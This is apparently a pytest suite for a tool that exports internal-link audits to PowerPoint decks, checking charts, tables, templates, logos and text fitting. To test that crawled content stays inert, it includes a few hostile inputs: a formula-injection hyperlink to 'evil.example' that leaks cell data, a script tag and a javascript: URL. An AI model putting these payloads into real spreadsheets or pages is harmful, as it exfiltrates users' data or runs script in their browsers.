"""Decks: native charts with the story's numbers, every row of a table once, nothing of a crawled site that runs or leads away."""

import copy
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from itertools import pairwise
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from pptx import Presentation
from pptx.enum.shapes import PP_PLACEHOLDER
from pptx.enum.text import PP_ALIGN
from pptx.oxml.ns import qn
from pptx.presentation import Presentation as Deck
from pptx.util import Pt

from linkkit.deck import ExportError
from linkkit.deck.brand import Brand
from linkkit.deck.language import Language
from linkkit.deck.slides import write_slides
from linkkit.deck.slides.fitting import (
    cut_lines,
    cut_middle,
    fitted,
    one_line,
    text_height,
    text_width,
    wrapped,
)
from linkkit.deck.slides.geometry import Box, box_of
from linkkit.deck.slides.grids import short_url, table_grid
from linkkit.deck.slides.look import Palette
from linkkit.deck.slides.numbers import format_code
from linkkit.deck.slides.rooms import plot_box
from linkkit.deck.slides.stage import open_stage
from linkkit.deck.slides.waterfall import waterfall_steps
from linkkit.deck.story import Card, Chart, Series, Slide, Story, Table, TableColumn
from linkkit.deck.story.writing import contrast
from linkkit.errors import SettingsError
from tests.agency_template import FONT, logo, write_template
from tests.slides_story import HOSTILE, LONG_URL, SECTIONS, SITE, charts, example_story, hostile_table

EMU = 12700
KEPT = ("cover", "summary", "chart.depth", "chart.ledger", "chart.flow", "text", "table", "hostile")
"""Slides of the example that go on the agency's template."""


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A deck of the example story on linkkit's own template, with a logo."""
    folder = tmp_path_factory.mktemp("deck")
    (folder / "logo.png").write_bytes(logo())
    brand = Brand("Backlink Studio", primary="#224488", font="Lato", logo=folder / "logo.png")
    return write_slides(example_story(brand), folder / "deck.pptx")


@pytest.fixture(scope="module")
def deck(path: Path) -> Deck:
    return Presentation(str(path))


@pytest.fixture(scope="module")
def agency(tmp_path_factory: pytest.TempPathFactory) -> Deck:
    """The same story on an agency's 4:3 template."""
    folder = tmp_path_factory.mktemp("agency")
    story = example_story(Brand("Agency", template=write_template(folder / "template.pptx")))
    slides = tuple(each for each in story.slides if each.name in KEPT)
    return Presentation(str(write_slides(replace(story, slides=slides), folder / "deck.pptx")))


def small(*slides: Slide, **changes: Any) -> Story:
    return replace(example_story(), slides=slides, **changes)


def native(deck: Deck, title: str) -> Any:
    """The chart of that title."""
    return next(
        s.chart for slide in deck.slides for s in slide.shapes if s.has_chart and s.name == one_line(title)
    )


def xml_parts(path: Path) -> Iterator[tuple[str, Any]]:
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                yield name, etree.fromstring(package.read(name))


def texts(slide: Any) -> str:
    """Everything that a slide shows as text, tables and charts' names of categories included."""
    found = [shape.text_frame.text for shape in slide.shapes if shape.has_text_frame]
    for shape in slide.shapes:
        if shape.has_table:
            found += [cell.text for row in shape.table.rows for cell in row.cells]
    return "\n".join(found)


# Charts


@pytest.mark.parametrize("name", ["depth", "sections", "anchors", "mix", "two", "history", "lines"])
def test_native_charts_have_the_numbers_of_the_story(deck: Deck, name: str) -> None:
    chart = charts()[name]
    plots = native(deck, chart.title).plots
    drawn = [series for plot in plots for series in plot.series]
    assert [tuple(series.values) for series in drawn[: len(chart.series)]] == [s.values for s in chart.series]
    assert [series.name for series in drawn[: len(chart.series)]] == [each.name for each in chart.series]
    assert len(plots[0].categories) == len(chart.categories)
    if chart.line is not None and chart.kind in ("columns", "stacked_columns", "line"):
        assert tuple(drawn[-1].values) == (chart.line,) * len(chart.categories)


def test_a_scatter_has_every_point_and_the_names_of_some(deck: Deck) -> None:
    chart = charts()["quadrant"]
    drawn = {series.name: series for series in native(deck, chart.title).plots[0].series}
    for each in chart.series:
        assert tuple(drawn[each.name].values) == each.values
        found = drawn[each.name]._element.xpath("./c:xVal//c:v/text()")
        assert [float(value) for value in found] == list(each.x)
    named = " ".join(drawn["To act on"]._element.xpath(".//c:dLbl//a:t/text()"))
    assert "/guides/running/" in named
    assert drawn["A quarter"]._element.xpath("./c:yVal//c:v/text()") == ["0.25", "0.25"]


def test_the_base_of_a_waterfall_carries_its_steps(deck: Deck) -> None:
    chart = charts()["ledger"]
    drawn = {series.name: tuple(series.values) for series in native(deck, chart.title).plots[0].series}
    assert drawn["Base"] == (0.0, 87.5, 79.25, 77.75, 37.75, 37.75, 0.0)
    assert drawn["Loss"] == (None, 12.5, 8.25, 1.5, 40.0, None, None)
    assert drawn["Gain"] == (None, None, None, None, None, 3.25, None)
    assert drawn["Total"] == (100.0, None, None, None, None, None, 41.0)
    base = native(deck, chart.title).plots[0].series[0]._element
    assert base.xpath("./c:spPr/a:noFill")
    assert not base.xpath("./c:dLbls")
    formats = {
        series.name: series._element.xpath("./c:dLbls/c:numFmt/@formatCode")[0]
        for series in native(deck, chart.title).plots[0].series
        if series.name != "Base"
    }
    assert formats["Loss"].split(";")[0] == '[$-409]"−"#,##0.0'
    assert formats["Total"] == "[$-409]#,##0.0"


@settings(max_examples=50, deadline=None)
@given(st.lists(st.integers(-50, 50), min_size=2, max_size=8))
def test_a_waterfall_ends_at_the_sum_of_its_steps_even_below_nought(values: list[int]) -> None:
    names = (*(f"s{number}" for number in range(len(values))), "end")
    numbers = (*map(float, values), None)
    steps = waterfall_steps(Chart("w", "waterfall", "", names, (Series("", numbers),), totals=("end",)))
    assert steps[-1].value == sum(values)
    for step in steps:
        # What is drawn: on the base, or from nought up and down where a step crosses it.
        if step.low >= 0:
            drawn = (step.base, step.base + step.above)
        elif step.high <= 0:
            drawn = (step.base + step.below, step.base)
        else:
            drawn = (step.below, step.above)
            assert step.base == 0
        assert drawn == (step.low, step.high)
        assert step.above >= 0 >= step.below


def test_labels_follow_the_numbers_and_the_language() -> None:
    english, german = Language("en"), Language("de")
    assert format_code("whole", english) == "[$-409]#,##0"
    assert format_code("number", german, 2) == "[$-407]#,##0.00"
    assert format_code("share", german).startswith("[=0]0\\ %;[<0.01]")
    assert format_code("share", english, hide_below=0.05) == '[<0.05]"";0\\ %'
    # As in the texts: never rounded to a false nought or whole.
    most, least = '[>0.99]">\xa099\xa0%"', '[<0.01]"<\xa01\xa0%"'
    assert format_code("share", german, values=(0.5, 0.999, None)) == f"[=1]0\\ %;{most};0\\ %"
    assert format_code("share", english, values=(0.001, 0.999)) == f"{least};{most};0\\ %"
    assert format_code("share", german, values=(0.001, 0.999, 0.0)) == "[$-407]0.0\\ %"
    assert format_code("share", english, values=(1.0, 0.2)).startswith("[=0]0\\ %;[<0.01]")
    assert format_code("share", german, hide_below=0.05, values=(0.995,)) == f'[<0.05]"";{most};0\\ %'


def test_every_chart_has_a_legend_only_for_several_series_and_colours_of_the_theme(deck: Deck) -> None:
    assert not native(deck, charts()["depth"].title).has_legend
    assert native(deck, charts()["mix"].title).has_legend
    points = native(deck, charts()["depth"].title)._chartSpace.xpath(".//c:dPt//a:schemeClr/@val")
    assert points == ["accent5", "accent5", "tx2"]


def test_the_line_across_lying_bars_stands_at_its_number(path: Path, deck: Deck) -> None:
    space = native(deck, charts()["sections"].title)._chartSpace
    low, high = (float(space.xpath(f".//c:valAx/c:scaling/c:{end}/@val")[0]) for end in ("min", "max"))
    x, w = (float(space.xpath(f".//c:plotArea/c:layout//c:{name}/@val")[0]) for name in "xw")
    drawings = [
        root for name, root in xml_parts(path) if name.startswith("ppt/drawings/") and name.endswith(".xml")
    ]
    places = [float(root.findtext(".//{*}cxnSp/../{*}from/{*}x")) for root in drawings]
    assert any(abs(place - (x + w * (0.2 - low) / (high - low))) < 1e-3 for place in places)
    assert any("Expected: 20 %" in "".join(root.itertext()) for root in drawings)


def test_a_heat_map_is_a_table_whose_text_can_be_read(deck: Deck) -> None:
    chart = charts()["flow"]
    slide = next(s for s in deck.slides for each in s.shapes if each.has_table and each.name == chart.title)
    table = next(each.table for each in slide.shapes if each.has_table)
    assert [cell.text for cell in table.rows[0].cells][1:4] == list(SECTIONS[:3])
    assert [row.cells[0].text for row in table.rows][1:] == list(SECTIONS)
    assert table.cell(1, 2).text == "30\N{NO-BREAK SPACE}%"
    assert table.cell(1, 1).text == "–"
    palette = Palette.own(Brand(primary="#224488"))
    for brightness in (0.0, 0.3, 0.5, 0.7, 0.92):
        fill = palette.role("main").lighter(brightness)
        assert contrast(palette.on(fill).shown, fill.shown) >= 4.0


# What came from a crawled site


def test_workbooks_hold_text_and_numbers_and_no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as package:
        books = [package.read(name) for name in package.namelist() if name.endswith(".xlsx")]
    assert len(books) == 10
    seen = []
    for content in books:
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            sheet = book.read("xl/worksheets/sheet1.xml")
            assert b"<f" not in re.sub(rb"<f[a-z]", b"", sheet)
            assert b"hyperlink" not in sheet
        for row in openpyxl.load_workbook(io.BytesIO(content))["Sheet1"].iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n")
                seen.append(cell.value)
    assert HOSTILE[1] in seen
    assert any(str(each).startswith("=HYPERLINK") for each in seen)


def test_references_of_charts_meet_their_cells(path: Path, deck: Deck) -> None:
    for slide in deck.slides:
        for shape in slide.shapes:
            if not shape.has_chart:
                continue
            blob = shape.chart.part.chart_workbook.xlsx_part.blob
            sheet = openpyxl.load_workbook(io.BytesIO(blob))["Sheet1"]
            for reference in shape.chart._chartSpace.iter(qn("c:numRef"), qn("c:strRef")):
                cells = sheet[reference.findtext(qn("c:f")).split("!")[1].replace("$", "")]
                cells = [row[0] for row in cells] if isinstance(cells, tuple) else [cells]
                for point in reference.iter(qn("c:pt")):
                    value = cells[int(point.get("idx"))].value
                    cached = point.findtext(qn("c:v"))
                    assert float(cached) == value if reference.tag == qn("c:numRef") else cached == value


def test_nothing_leads_out_of_the_package_and_nothing_runs(path: Path) -> None:
    for name, root in xml_parts(path):
        assert root.xpath("//@TargetMode") == [], name
        assert root.xpath("//*[starts-with(local-name(), 'hlink') and local-name() != 'hlink']") == [], name
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        assert len(names) == len(set(names))
        assert not any(name.endswith((".bin", ".vml")) for name in names)


def test_hostile_text_stays_text_and_directions_are_taken_out(path: Path, deck: Deck) -> None:
    shown = "\n".join(texts(slide) for slide in deck.slides)
    for text in (
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "@SUM(1+1)",
        "</a:t><script>alert(1)</script> & <b>",
        "_x0041_",
    ):
        assert text in shown
    everything = "".join("".join(root.itertext()) for _, root in xml_parts(path))
    assert not re.search(
        "[\x00-\x08\x0b\x0c\x0e-\x1f\u2028\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe]", everything
    )
    on_slides = "".join(
        "".join(root.itertext()) for name, root in xml_parts(path) if name.startswith("ppt/slides/")
    )
    assert LONG_URL not in on_slides
    assert max(map(len, re.findall(r"\S+", on_slides))) < 1000
    assert "_x000" not in everything


@pytest.mark.parametrize(
    ("address", "short"),
    [
        (f"{SITE}a/b?c=1", "/a/b?c=1"),
        (SITE, "/"),
        ("https://shop.example", "/"),
        ("https://other.example/x", "other.example/x"),
        ("javascript:alert(1)", "javascript:alert(1)"),
        (f"{SITE}%D9%85%D8%B1", "/مر"),
        (f"{SITE}%E2%80%AEx", "/%E2%80%AEx"),
        (f"{SITE}%zz%ff", "/%zz%ff"),
        ("https://[broken", "https://[broken"),
    ],
)
def test_addresses_are_shortened_to_what_tells_them_apart(address: str, short: str) -> None:
    assert short_url(address, SITE) == short


# Tables


def table_rows(deck: Deck, title: str, first: str) -> list[list[list[str]]]:
    """Cells of each part of a table: of the slides with that title, in order."""
    return [
        [[cell.text for cell in row.cells] for row in shape.table.rows]
        for slide in deck.slides
        if slide.shapes.title is not None and slide.shapes.title.text == title
        for shape in slide.shapes
        if shape.has_table and shape.table.cell(0, 0).text == first
    ]


def test_a_long_table_goes_on_and_holds_every_row_once(deck: Deck) -> None:
    parts = table_rows(deck, "The pages to begin with", "Severity")
    assert len(parts) >= 3
    assert all(part[0] == ["Severity", "Page", "What is wrong", "Links", "Share"] for part in parts)
    rows = [row for part in parts for row in part[1:]]
    assert [row[3] for row in rows] == [f"{number * 1234:,}" for number in range(1, 41)]
    kickers = [
        shape.text_frame.text
        for slide in deck.slides
        for shape in slide.placeholders
        if shape.placeholder_format.idx == 13 and "Findings · continued" in shape.text_frame.text
    ]
    assert f"Findings · continued 2/{len(parts)}" in kickers
    assert f"Findings · continued {len(parts)}/{len(parts)}" in kickers


def test_cells_are_aligned_and_severities_coloured(deck: Deck) -> None:
    table = next(
        s.table for slide in deck.slides for s in slide.shapes if s.has_table and len(s.table.columns) == 5
    )
    assert table._tbl.tblPr.get("firstRow") == "1"
    cell = table.cell(1, 3)
    assert cell.text_frame.paragraphs[0].alignment == PP_ALIGN.RIGHT
    chip = table.cell(1, 0)
    assert chip.text == "■ Medium"
    assert chip._tc.xpath("./a:tcPr/a:solidFill/a:schemeClr/@val") == ["accent4"]
    # A border has to stand before the fill, or PowerPoint repairs the file.
    assert [each.tag for each in chip._tc.tcPr] == [qn("a:lnT"), qn("a:lnB"), qn("a:solidFill")]
    sizes = {int(size) for size in table._tbl.xpath(".//a:rPr/@sz")}
    assert min(sizes) >= 1000
    assert max(sizes) >= 1100


@settings(max_examples=20, deadline=None)
@given(st.integers(0, 60), st.floats(20, 400), st.floats(120, 400))
def test_parts_of_a_table_hold_every_row_in_order_and_fit(rows: int, first: float, others: float) -> None:
    story = example_story()
    table = Table("t", "T", (TableColumn("A"), TableColumn("B", "whole")), tuple((f"row {n} " * (n % 9), float(n)) for n in range(rows)), rows)  # fmt: skip
    grid = table_grid(table, 600, SITE, Palette.own(story.brand), story.language, first)
    parts = grid.parts(first, others)
    assert [index for part in parts for index in part] == list(range(rows))
    for number, part in enumerate(parts):
        assert (
            grid.height(part) <= (others if number else first)
            or len(part) <= (1 if number else 0)
            or rows == 0
        )
    for part, after in pairwise(parts[1:]):
        # Filled in its turn, but for what the last two share.
        whole = range(part.start, part.stop + 1)
        assert grid.height(whole) > others or len(part) == 14 or after == parts[-1]
    if len(parts) > 2 and len(set(grid.heights)) == 1:
        assert abs(len(parts[-2]) - len(parts[-1])) <= 1
    excerpt = grid.parts(first, others, is_excerpt=True)
    assert excerpt == parts or (
        len(excerpt) == 1 and len(excerpt[0]) >= 5 and grid.height(excerpt[0]) <= first
    )


def test_columns_are_as_wide_as_what_stands_in_them() -> None:
    story = example_story()
    rows = tuple(
        (
            f"{SITE}guides/packrafting/{n}/",
            f"{SITE}hire/weekend/",
            "Packraft weekend hire (new sentence)",
            0.04,
        )
        for n in range(10)
    )
    columns = (TableColumn("On the page", "url"), TableColumn("Link to", "url"), TableColumn("With the words"), TableColumn("Gain (units of 100)", "number", 3))  # fmt: skip
    table = Table("t", "T", columns, rows, 10)
    grid = table_grid(table, 872, SITE, Palette.own(story.brand), story.language, 360)
    assert grid.widths[2] == max(grid.widths)
    assert grid.widths[1] < grid.widths[0]
    assert sum(grid.widths) == pytest.approx(872)
    assert len(set(grid.heights)) == 1, "no row wraps"
    assert grid.size > 13
    assert grid.parts(360, 360) == [range(10)]
    tight = table_grid(table, 400, SITE, Palette.own(story.brand), story.language, 360)
    assert sum(tight.widths) == pytest.approx(400)
    assert tight.size < grid.size


def test_what_runs_from_right_to_left_is_set_so(tmp_path: Path) -> None:
    table = Table("t", "T", (TableColumn("Text"), TableColumn("Page", "url"), TableColumn("Links", "whole")),
                  (("אוהלים 2", f"{SITE}%D7%90/", 3.0), ("Tents אוהלים", SITE, 4.0)), 2)  # fmt: skip
    story = small(Slide("t", "depth", "خيام", "Kicker", ("مرحبا world", "Hello مرحبا"), table=table))
    done = Presentation(str(write_slides(story, tmp_path / "deck.pptx")))

    def sides(element: Any) -> dict[str, tuple[str | None, str | None]]:
        found = {}
        for paragraph in element.iter(qn("a:p")):
            properties = paragraph.find(qn("a:pPr"))
            text = "".join(each.text or "" for each in paragraph.iter(qn("a:t")))
            found[text] = (
                (None, None) if properties is None else (properties.get("rtl"), properties.get("algn"))
            )
        return found

    slide = done.slides[0]
    assert sides(slide.shapes.title._element) == {"خيام": ("1", "r")}
    seen = sides(slide._element)
    assert seen["مرحبا world"] == seen["אוהלים 2"] == ("1", "r")
    assert seen["Hello مرحبا"] == seen["Tents אוהלים"] == seen["/א/"] == (None, "l")
    assert seen["3"] == (None, "r")


# Slides


def test_the_deck_has_a_slide_for_each_and_says_where_it_belongs(deck: Deck) -> None:
    story = example_story()
    titles = [slide.shapes.title.text for slide in deck.slides]
    for slide in story.slides:
        assert any(title[:30] == one_line(slide.title)[:30] for title in titles), slide.name
    for number, slide in enumerate(deck.slides, 1):
        kinds = {shape.placeholder_format.type for shape in slide.placeholders}
        assert {PP_PLACEHOLDER.FOOTER, PP_PLACEHOLDER.SLIDE_NUMBER} <= kinds, number
        footer = next(s for s in slide.placeholders if s.placeholder_format.type == PP_PLACEHOLDER.FOOTER)
        assert footer.text_frame.text.startswith("Shoe Shop & Söhne · https://shop.example/ · 1 May 2026")
        assert "The crawl stopped at 5,000 pages" in footer.text_frame.text
        assert slide._element.xpath(".//a:fld[@type='slidenum']")


def test_a_complete_crawl_puts_no_limits_into_the_footer(tmp_path: Path) -> None:
    story = small(Slide("text", "depth", "Title", "Kicker", ("One line.",)), is_complete=True)
    done = Presentation(str(write_slides(story, tmp_path / "deck.pptx")))
    assert "The crawl stopped" not in texts(done.slides[0])
    assert "The crawl stopped" in done.slides[0].notes_slide.notes_text_frame.text


def test_notes_hold_method_comment_and_what_was_cut(deck: Deck) -> None:
    notes = [slide.notes_slide.notes_text_frame.text for slide in deck.slides]
    summary = next(each for each in notes if "Method.\n\nDefinitions." in each)
    assert "Said by hand." in summary
    assert "Limits of the data: The crawl stopped" in summary
    many = next(s for s in deck.slides if s.shapes.title.text == "Many words")
    whole = one_line("A long sentence about everything that was looked at and more. " * 14)
    assert whole in many.notes_slide.notes_text_frame.text


def test_everything_drawn_has_an_alternative_in_words_or_is_decoration(deck: Deck) -> None:
    for slide in deck.slides:
        for shape in slide.shapes:
            named = shape._element.xpath(".//p:cNvPr")[0]
            if shape.has_chart or shape.has_table:
                assert named.get("descr"), shape.name
            elif not shape.is_placeholder and not shape.text_frame.text:
                assert named.xpath(".//*[local-name() = 'decorative']/@val") == ["1"], shape.name
    pictures = [
        s
        for holder in (deck.slide_master, deck.slide_layouts[0])
        for s in holder.shapes
        if s.shape_type == 13
    ]
    assert [each._element.nvPicPr.cNvPr.get("descr") for each in pictures] == ["Backlink Studio"] * 2
    assert all(abs(each.width / each.height - 320 / 120) < 0.01 for each in pictures)


@pytest.mark.parametrize(("sentences", "slides"), [(1, 1), (9, 2)])
def test_a_chart_of_bars_that_words_leave_too_little_room_has_a_slide_of_its_own(
    sentences: int, slides: int, tmp_path: Path
) -> None:
    names = tuple(f"/section-{number}/" for number in range(12))
    chart = Chart("c", "bars", "Pages in each", names, (Series("Pages", tuple(range(12))),), "whole", "Pages", note="A note.")  # fmt: skip
    lines = tuple(f"Sentence {number} says what a client has to know of it." for number in range(sentences))
    todo = "Link to it from the hub of its section."
    slide = Slide("a", "a", "What it says", "A", lines=lines, chart=chart, todo=todo, cards=charts_cards(sentences))  # fmt: skip
    made = Presentation(str(write_slides(small(slide), tmp_path / "deck.pptx")))
    titles = [each.shapes.title.text for each in made.slides]
    assert titles == ["What it says", "Pages in each"][:slides]
    shown = [shape for each in made.slides for shape in each.shapes if shape.has_chart]
    assert [len(shape.chart.plots[0].categories) for shape in shown] == [12]
    assert shown[0].height / EMU >= 12 * 17, "a row whose number can be read"
    said = texts(made.slides[0])
    assert all(each in said for each in (*lines[:1], todo))


def charts_cards(sentences: int) -> tuple[Card, ...]:
    """Cards beside many sentences, none beside few."""
    return tuple(Card(f"Card {n}", str(n)) for n in range(3)) if sentences > 1 else ()


def test_one_column_does_not_fill_a_slide_and_many_do() -> None:
    def width(number: int) -> float:
        names = tuple(map(str, range(number)))
        drawn = (Series("Pages", tuple(float(each + 1) for each in range(number))),)
        return plot_box(Chart("c", "columns", "Pages", names, drawn), Box(0, 0, 800, 300)).width

    assert width(1) < 400 < width(3) < width(9) == 800


def test_an_agencys_text_is_set_in_a_size_that_fits(tmp_path: Path) -> None:
    # The template's own text is of 32 points, which four sentences would run out of the slide with.
    lines = tuple(f"{number}: {'what this audit rests on ' * 6}" for number in range(4))
    story = small(Slide("a", "a", "What it rests on", lines=lines), brand=Brand("Agency", template=write_template(tmp_path / "t.pptx")))  # fmt: skip
    made = Presentation(str(write_slides(story, tmp_path / "deck.pptx")))
    shape = next(each for each in made.slides[0].placeholders if each.placeholder_format.idx == 1)
    sizes = {run.font.size.pt for paragraph in shape.text_frame.paragraphs for run in paragraph.runs}
    assert len(sizes) == 1
    (size,) = sizes
    assert size <= 18
    assert text_height(lines, shape.width / EMU - 40, size, after=4) <= shape.height / EMU


def test_an_excerpt_that_is_longer_than_its_slide_says_how_many_there_are(tmp_path: Path) -> None:
    columns = (TableColumn("Page", "url", 1), TableColumn("What to do", "text", 3))
    rows = tuple((f"{SITE}page-{number}/", "Link to it from the page above it. " * 15) for number in range(8))
    table = Table("t", "Findings", columns, rows, 8, fewer="The first {shown} of 8.")
    made = Presentation(str(write_slides(small(Slide("a", "a", "Findings", table=table)), tmp_path / "deck.pptx")))  # fmt: skip
    assert len(made.slides) == 1
    shown = next(len(shape.table.rows) - 1 for shape in made.slides[0].shapes if shape.has_table)
    assert 4 < shown < 8
    assert f"The first {shown} of 8." in texts(made.slides[0])


def test_nothing_leaves_the_slide_and_text_fits_its_box(deck: Deck, agency: Deck) -> None:
    for some in (deck, agency):
        for slide in some.slides:
            for shape in slide.shapes:
                assert shape.left >= 0
                assert shape.top >= 0
                assert shape.left + shape.width <= some.slide_width
                assert shape.top + shape.height <= some.slide_height
                if shape.has_text_frame and not shape.is_placeholder and shape.text_frame.text:
                    frame = shape.text_frame
                    assert frame.word_wrap is True
                    width = (shape.width - frame.margin_left - frame.margin_right) / EMU
                    height = sum(
                        text_height([p.text], width, p.runs[0].font.size.pt, bold=bool(p.runs[0].font.bold))
                        for p in frame.paragraphs
                        if p.runs
                    )
                    assert height <= shape.height / EMU + 1, (shape.name, frame.text)


def test_the_theme_carries_the_brand(path: Path, deck: Deck) -> None:
    theme = next(root for name, root in xml_parts(path) if name == "ppt/theme/theme1.xml")
    assert theme.find(f".//{qn('a:accent1')}/{qn('a:srgbClr')}").get("val") == "224488"
    assert {each.get("typeface") for each in theme.iter(qn("a:latin"))} == {"Lato"}
    assert (deck.slide_width, deck.slide_height) == (960 * EMU, 540 * EMU)
    properties = deck.core_properties
    assert (properties.title, properties.author, properties.language) == (
        "Internal link audit of shop.example", "Backlink Studio", "en-US",
    )  # fmt: skip
    assert [each.get("name") for each in deck.element.iter("{*}section")][:3] == [
        "Is shop.example ready for backlinks?", "Summary", "Readiness",
    ]  # fmt: skip
    listed = [
        each.get("id")
        for each in deck.element.iter("{http://schemas.microsoft.com/office/powerpoint/2010/main}sldId")
    ]
    assert listed == [str(slide.slide_id) for slide in deck.slides]


def test_the_same_story_gives_the_same_deck_but_for_its_date(path: Path, tmp_path: Path) -> None:
    story = example_story(
        Brand("Backlink Studio", primary="#224488", font="Lato", logo=path.parent / "logo.png")
    )
    again = write_slides(story, tmp_path / "again.pptx")
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(again) as new:
        assert old.namelist() == new.namelist()
        differ = [name for name in old.namelist() if old.read(name) != new.read(name)]
        assert set(differ) <= {"docProps/core.xml"}
        assert {entry.date_time for entry in new.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_a_german_deck_writes_german_numbers(tmp_path: Path) -> None:
    story = small(Slide("t", "findings", "Titel", "Thema", table=hostile_table()), language=Language("de"))
    done = Presentation(str(write_slides(story, tmp_path / "deck.pptx")))
    assert "1.234" in texts(done.slides[0])
    assert done.core_properties.language == "de-DE"
    assert done.slides[0]._element.xpath(".//a:rPr/@lang")[0] == "de-DE"


# The agency's template


def test_the_agencys_template_is_kept_and_its_slides_are_not(agency: Deck) -> None:
    assert (agency.slide_width, agency.slide_height) == (9144000, 6858000)
    everything = "\n".join(texts(slide) for slide in agency.slides)
    assert "Example that nobody may see" not in everything
    assert len(agency.slides) > len(KEPT)
    parts = [str(part.partname) for part in agency.part.package.iter_parts()]
    assert sum(name.startswith("/ppt/slides/") for name in parts) == len(agency.slides)
    assert sum(name.startswith("/ppt/charts/") for name in parts) == 2
    assert len(parts) == len(set(parts))
    assert not any(
        relation.is_external for part in agency.part.package.iter_parts() for relation in part.rels.values()
    )
    assert next(agency.element.iter("{*}section")).get("name") != "Old"
    used = {slide.slide_layout.name for slide in agency.slides}
    assert used == {"Title Slide", "Title Only", "Title and Content"}
    theme = agency.slide_master.part.part_related_by(
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/theme"
    )
    assert FONT.encode() in theme.blob


def test_an_agencys_deck_has_the_numbers_and_no_empty_placeholder(agency: Deck) -> None:
    chart = charts()["depth"]
    assert tuple(native(agency, chart.title).plots[0].series[0].values) == chart.series[0].values
    for slide in agency.slides:
        for shape in slide.placeholders:
            assert shape.text_frame.text, (slide.shapes.title.text, shape.name)


@pytest.mark.parametrize("content", [b"", b"no presentation", b"PK\x03\x04broken", logo()])
def test_a_broken_template_is_told(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "t.pptx").write_bytes(content)
    with pytest.raises(
        ExportError,
        match=r"template .*t\.pptx cannot be used .*a PowerPoint presentation \(\.pptx\) is expected",
    ):
        write_slides(
            small(Slide("a", "b", "c"), brand=Brand(template=tmp_path / "t.pptx")), tmp_path / "deck.pptx"
        )
    assert not (tmp_path / "deck.pptx").exists()


def test_a_workbook_is_no_template(tmp_path: Path) -> None:
    openpyxl.Workbook().save(tmp_path / "t.pptx")
    with pytest.raises(ExportError, match="is not a PowerPoint file"):
        write_slides(
            small(Slide("a", "b", "c"), brand=Brand(template=tmp_path / "t.pptx")), tmp_path / "deck.pptx"
        )


@pytest.mark.parametrize(
    ("content", "said"),
    [(b"GIF89a", "cannot be read as a picture"), (logo()[:200], "cannot be read"), (logo(kind="GIF"), "is GIF"), (b"", "cannot be read")],
)  # fmt: skip
def test_a_damaged_logo_is_told(tmp_path: Path, content: bytes, said: str) -> None:
    (tmp_path / "logo.png").write_bytes(content)
    with pytest.raises(ExportError, match=f"logo .*{said}.*a PNG or JPEG picture is expected"):
        write_slides(
            small(Slide("a", "b", "c"), brand=Brand(logo=tmp_path / "logo.png")), tmp_path / "deck.pptx"
        )


def logos(holder: Any) -> list[Any]:
    """Pictures that linkkit has put on a layout."""
    return [each for each in holder.shapes if each.shape_type == 13 and each.name == "Logo"]


@pytest.mark.parametrize(("wanted", "has_own", "count"), [("", True, [0, 0, 0]), ("always", True, [1, 0, 0]), ("", False, [1, 1, 1]), ("never", False, [0, 0, 0])])  # fmt: skip
def test_the_logo_stands_on_a_template_that_has_none(
    tmp_path: Path, wanted: str, has_own: bool, count: list[int]
) -> None:
    """Its own logo stands where ours would, beside the footer: there is room on the cover alone."""
    (tmp_path / "logo.png").write_bytes(logo())
    template = write_template(tmp_path / "t.pptx", with_logo=has_own)
    stage = open_stage(
        Brand("Studio", logo=tmp_path / "logo.png", logo_on_template=wanted, template=template)
    )
    assert [len(logos(each)) for each in (stage.cover, stage.content, stage.text)] == count
    for layout in (stage.cover, stage.content, stage.text):
        for picture in logos(layout):
            assert picture._element.nvPicPr.cNvPr.get("descr") == "Studio"
            assert picture.width / picture.height == pytest.approx(320 / 120, rel=0.01)
            own = box_of(picture)
            kept = [
                each for each in layout.placeholders if each.placeholder_format.type != PP_PLACEHOLDER.DATE
            ]
            assert not any(own.meets(box_of(each)) for each in kept)
            assert own.x >= 0
            assert own.right <= stage.page.width
            assert own.bottom <= stage.page.height
            if layout is not stage.cover:
                assert not own.meets(stage.page.footer)
                assert not own.meets(stage.page.body)


def test_a_place_for_pictures_takes_the_logo_and_no_text(tmp_path: Path) -> None:
    (tmp_path / "logo.png").write_bytes(logo())
    deck = Presentation(str(write_template(tmp_path / "t.pptx", with_logo=False)))
    cover = deck.slide_layouts[0]
    cover.placeholders[1]._element.nvSpPr.nvPr.ph.set("idx", "40")
    place = copy.deepcopy(cover.placeholders[1]._element)
    place.nvSpPr.nvPr.ph.set("type", "pic")
    place.nvSpPr.nvPr.ph.set("idx", "13")
    place.nvSpPr.cNvPr.set("id", "77")
    cover.shapes._spTree.append(place)
    picture = next(each for each in cover.placeholders if each.placeholder_format.idx == 13)
    picture.left, picture.top, picture.width, picture.height = Pt(20), Pt(20), Pt(200), Pt(60)
    deck.save(str(tmp_path / "t.pptx"))
    brand = Brand(logo=tmp_path / "logo.png", template=tmp_path / "t.pptx")
    done = Presentation(str(write_slides(small(Slide("cover", "cover", "Title", lines=("By us",)), brand=brand), tmp_path / "deck.pptx")))  # fmt: skip
    (found,) = logos(done.slides[0].slide_layout)
    assert box_of(found) == Box(20, 20, pytest.approx(160), 60)
    written = {each.text_frame.text for each in done.slides[0].placeholders}
    assert {"Title", "By us"} <= written
    assert {each.placeholder_format.idx for each in done.slides[0].placeholders}.isdisjoint({13})
    with pytest.raises(SettingsError, match="logo_on_template = 'maybe'"):
        Brand(logo_on_template="maybe")


# Text


@settings(max_examples=25, deadline=None)
@given(st.text(max_size=80), st.floats(30, 400), st.integers(9, 30), st.integers(1, 4))
def test_text_that_was_cut_fits(text: str, width: float, size: int, lines: int) -> None:
    plain = one_line(text)
    assert "\n" not in plain
    short = cut_lines(plain, width, size, lines)
    assert len(wrapped(short, width, size)) <= lines or len(short) <= 2 * lines
